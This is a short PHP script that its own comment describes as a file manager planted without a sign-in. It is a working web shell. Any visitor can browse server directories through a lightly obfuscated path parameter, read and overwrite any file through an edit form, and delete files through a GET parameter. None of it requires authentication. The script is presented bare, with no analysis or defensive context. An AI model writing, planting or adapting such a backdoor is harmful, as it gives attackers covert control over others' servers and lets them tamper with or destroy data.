<?php
// a file manager planted without a sign-in: the folder and the file are the visitor's
function decodePath($p) { return str_replace(array('~', '!'), array('/', '.'), $p); }
$root = __DIR__;
$p = isset($_GET['p']) ? decodePath($_GET['p']) : $root;
define('PATH', $p);
foreach (scandir(PATH) as $item) {
    echo '<a href="?p=' . urlencode(PATH . '/' . $item) . '">' . htmlspecialchars($item) . '</a> ';
    echo '<a href="?p=' . urlencode(PATH) . '&e=' . urlencode($item) . '">edit</a><br>';
}
if (isset($_GET['e'])) {
    echo '<form method="post"><textarea name="data">'
        . htmlspecialchars(file_get_contents(PATH . '/' . $_GET['e']))
        . '</textarea><input type="submit" name="edit" value="Save"></form>';
    if (isset($_POST['edit'])) {
        $filename = PATH . '/' . $_GET['e'];
        $data = $_POST['data'];
        $open = fopen($filename, 'w');
        fwrite($open, $data);
        fclose($open);
    }
}
if (isset($_GET['d'])) { unlink(PATH . '/' . $_GET['d']); }
